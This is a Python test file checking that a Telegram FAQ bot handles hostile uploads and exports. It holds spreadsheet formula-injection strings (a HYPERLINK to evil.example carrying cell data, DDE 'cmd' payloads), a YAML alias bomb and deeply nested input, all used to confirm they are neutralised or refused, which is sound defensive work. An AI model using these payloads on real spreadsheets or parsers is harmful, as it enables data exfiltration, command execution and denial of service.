"""Hostile input on uploads and exports (issue 14, items 11-15), end to end over HTTP."""

from __future__ import annotations

import csv
import io
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any, cast

import pytest
from openpyxl import load_workbook

from bot.faq import content
from bot.reference.telegram_html import utf16_len
from storage.db import Database
from tests.support.fakebot import FakeBotApi, FakeUser
from tests.support.journeys import ADMIN, consent, exported, file_of, upload
from tests.support.running import RunningBot
from tests.support.seed import Person, seed

Query = Callable[..., Awaitable[list[tuple[Any, ...]]]]


async def write_db(db_path: Path | str, sql: str, params: tuple[Any, ...] = ()) -> None:
    """Change the bot's database directly (as an older version of the bot left it)."""
    db = Database(db_path, pool_size=1)
    await db.open()
    try:
        async with db.transaction() as conn:
            await conn.execute(sql, params)
    finally:
        await db.close()


async def store_content(db_path: Path | str, body: str) -> None:
    """A content document in the database, as a version that accepted it stored it."""
    await write_db(
        db_path,
        "INSERT INTO content (name, body, updated_at, updated_by)"
        " VALUES ('faq', ?, '2026-11-01T00:00:00+00:00', 900001)"
        " ON CONFLICT (name) DO UPDATE SET body = excluded.body",
        (body,),
    )


async def admin_of(fake: FakeBotApi) -> FakeUser:
    admin = fake.user(ADMIN)
    await consent(admin)
    return admin


async def rejected(admin: FakeUser, *fragments: str) -> str:
    """The upload's refusal (a list of problems, never the generic error)."""
    event = await admin.expect("Файл не принят")
    for fragment in fragments:
        assert fragment in event.text, (fragment, event.text)
    assert not [e for e in admin.events() if "Что-то пошло не так" in e.text]
    return event.text


# ---- 11: exports open as data --------------------------------------------------------------

FORMULAS = {
    51: (
        '=1+HYPERLINK("http://evil.example/?"&A1;"Нажмите")', "+77011234567",
        "-2+3+cmd|' /C calc'!A0",
    ),
    52: ("@SUM(1+1)", "+971 50 000 0000", "+1+cmd|' /C calc'!A0"),
}  # fmt: skip


async def test_exports_neutralise_formulas_and_keep_phones_text(
    fake: FakeBotApi, bot: RunningBot, db_path: Path
) -> None:
    await seed(db_path, [Person(user_id) for user_id in FORMULAS])
    for user_id, (name, phone, note) in FORMULAS.items():
        await write_db(
            db_path,
            "UPDATE registrations SET full_name = ?, phone = ?, note = ? WHERE user_id = ?",
            (name, phone, note, user_id),
        )
    admin = fake.user(ADMIN)
    admin.send("/export")
    done = await admin.expect("Выгрузка: строк — 2")
    data = file_of(fake, done, "document").decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(data), delimiter=";"))[1:]
    expected = {("'" + n, "'" + p, "'" + note) for n, p, note in FORMULAS.values()}
    assert {(r[0], r[1], r[8]) for r in rows} == expected
    sheet = await admin.expect(kind="send")
    book = load_workbook(io.BytesIO(file_of(fake, sheet, "document")))
    assert book.active is not None
    cells = [row for row in book.active.iter_rows(min_row=2)]
    assert {(r[0].value, r[1].value, r[8].value) for r in cells} == set(FORMULAS.values())
    assert all(c.data_type == "s" for r in cells for c in (r[0], r[1], r[8]))


# ---- 12: a button label is plain text ------------------------------------------------------


async def test_telegram_name_button_is_not_html_escaped(fake: FakeBotApi, bot: RunningBot) -> None:
    user = fake.user(6201, first_name="<b>Вася</b>", last_name="& Co")
    await consent(user)
    user.press("📝 Зарегистрироваться")
    await user.expect("В какой стране")
    user.press("Иордания")
    await user.expect("Город или место")
    user.send("Амман")
    await user.expect("Ваш статус")
    user.press("Турист")
    await user.expect("Сколько вас")
    user.press("1")
    await user.expect("ФИО как в паспорте")
    _, button = user.find_button("Использовать")
    assert button["text"] == "Использовать «<b>Вася</b> & Co»"


# ---- 13: what is accepted starts and renders -------------------------------------------


async def test_missions_without_a_known_kind_are_refused(
    fake: FakeBotApi, bot: RunningBot, run_db: Query
) -> None:
    admin = await admin_of(fake)
    document = await exported(fake, admin)
    del document["directory"]["AE"]["missions"][0]["kind"]
    document["directory"]["QA"]["missions"][0]["kind"] = "consulate"
    upload(admin, document)
    await rejected(
        admin,
        "directory.AE.missions[0].kind: нет обязательного поля",
        "directory.QA.missions[0].kind: вид загранучреждения должен быть embassy или"
        " consulate_general, а не consulate",
    )
    assert await run_db("SELECT count(*) FROM content") == [(0,)]


async def test_a_stored_document_the_schema_refuses_does_not_stop_the_bot(
    fake: FakeBotApi, bot: RunningBot, db_path: Path
) -> None:
    document = content.seed_document()
    del document["directory"]["QA"]["missions"][0]["kind"]
    await bot.stop()
    await store_content(db_path, content.dump(document))
    await bot.start()  # the shipped content stands in, and the error is logged
    citizen = fake.user(6202)
    await consent(citizen)
    citizen.send("телефон посольства")
    await citizen.expect("Для какой страны")
    citizen.press("Катар")
    await citizen.expect("Контакты загранучреждения")


# ---- 14: YAML aliases, depth and types -------------------------------------------------

BOMB = """\
unchecked:
  a: &a [x, x, x, x, x, x, x, x, x, x]
  b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]
  c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]
  d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]
  e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d]
  f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e]
  g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f, *f]
"""


async def test_aliases_depth_and_types_are_answered_with_problems(
    fake: FakeBotApi, bot: RunningBot, run_db: Query
) -> None:
    admin = await admin_of(fake)
    document = await exported(fake, admin)
    text = content.dump(document)
    started = time.monotonic()
    upload(admin, text + BOMB)
    await rejected(admin, "якоря и ссылки YAML")
    upload(admin, text + "loop: &loop [*loop]\n")
    await rejected(admin, "якоря и ссылки YAML")
    upload(admin, "topics: []\nentries: " + "[" * 5000 + "]" * 5000 + "\n")
    await rejected(admin, "вложенность глубже 12 уровней")
    document["directory"]["QA"]["polling"] = "open"
    upload(admin, document)
    await rejected(admin, "directory.QA.polling: здесь должны быть поля «ключ: значение»")
    # The bot stayed responsive throughout.
    citizen = fake.user(6203)
    await consent(citizen)
    assert time.monotonic() - started < 15
    assert await run_db("SELECT count(*) FROM content") == [(0,)]


async def test_a_stored_alias_bomb_is_not_loaded(
    fake: FakeBotApi, bot: RunningBot, db_path: Path
) -> None:
    seed_text = content.dump(content.seed_document())
    await bot.stop()
    await store_content(db_path, seed_text + BOMB)
    started = time.monotonic()
    await bot.start()
    admin = await admin_of(fake)
    assert time.monotonic() - started < 10
    document = await exported(fake, admin)
    assert "unchecked" not in document
    # Re-uploading next to it is quick and works.
    document["topics"][0]["title"]["ru"] = "Сейчас"
    upload(admin, document)
    await admin.expect("изменённых тем: 1")


# ---- 15: lengths as Telegram counts them, and downloads bounded ------------------------


async def test_answer_length_counts_utf16_units(fake: FakeBotApi, bot: RunningBot) -> None:
    admin = await admin_of(fake)
    document = await exported(fake, admin)
    entry = document["entries"][0]
    entry["answer"]["kk"] = "🆘 " * 1200  # 2,400 characters, 3,600 UTF-16 units
    upload(admin, document)
    await rejected(admin, f"{entry['id']}.answer.kk: длиннее 3\xa0500 символов")


async def test_country_answers_stay_within_telegram_length(
    fake: FakeBotApi, bot: RunningBot
) -> None:
    admin = await admin_of(fake)
    document = await exported(fake, admin)
    for mission in document["directory"]["AE"]["missions"]:
        for key in ("address", "hotline", "emergency", "email", "hours"):
            mission[key] = "д" * 100
    entry = next(e for e in document["entries"] if e["id"] == "contact-embassy")
    entry["answer"]["ru"] = "🆘" * 1700 + "\n{contacts}"  # 1,700 characters, 3,400 units
    upload(admin, document)
    await admin.expect("Проверьте изменения")
    admin.press("Применить")
    await admin.expect("Изменения применены")
    citizen = fake.user(6204)
    await consent(citizen)
    citizen.send("адрес посольства")
    await citizen.expect("Для какой страны")
    citizen.press("Объединённые Арабские Эмираты")
    await citizen.expect("🆘🆘🆘")
    sent = [e.text for e in citizen.events() if "🆘" in e.text or "Генеральное" in e.text]
    assert any("Генеральное консульство" in text for text in sent)
    assert all(utf16_len(text) <= 4096 for text in sent), [utf16_len(t) for t in sent]


async def test_a_large_file_without_a_size_is_not_downloaded_whole(
    fake: FakeBotApi, bot: RunningBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    admin = await admin_of(fake)
    pulled = 0

    async def fifty_megabytes() -> AsyncIterator[bytes]:
        nonlocal pulled
        chunk = b"# " + b"x" * 65534
        for _ in range(800):
            pulled += len(chunk)
            yield chunk

    async def get_file_without_size(params: dict[str, Any]) -> dict[str, Any]:
        file_id = str(params.get("file_id"))
        return {"file_id": file_id, "file_unique_id": file_id, "file_path": file_id}

    monkeypatch.setattr(fake, "m_getFile", get_file_without_size)
    message = admin.send_media(
        "document", data=b"", filename="faq.yaml", mime="application/x-yaml"
    )
    # Nothing says how big it is: not the message (the update is still queued) ...
    del message["document"]["file_size"]
    # ... nor getFile; and the server streams it (the fake serves an async iterable as is).
    cast(dict[str, Any], fake.files)[message["document"]["file_id"]] = fifty_megabytes()
    await admin.expect("Файл больше 1\xa0000 КБ")
    # Socket buffers let the server get ahead of the reader by a few megabytes at most.
    assert pulled < 20_000_000, pulled
    assert not [e for e in admin.events() if "Что-то пошло не так" in e.text]
